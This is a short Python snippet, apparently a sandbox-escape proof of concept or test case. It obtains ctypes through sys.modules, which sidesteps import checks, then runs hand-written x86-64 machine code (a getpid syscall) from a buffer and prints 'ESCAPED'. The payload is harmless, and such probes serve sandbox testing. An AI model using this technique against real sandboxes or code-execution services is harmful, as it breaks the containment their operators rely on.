import sys
ctypes = sys.modules["ctypes"]
code = ctypes.create_string_buffer(b"\xb8\x27\x00\x00\x00\x0f\x05\xc3" * 9)  # return getpid()
print("ESCAPED", ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(code))())
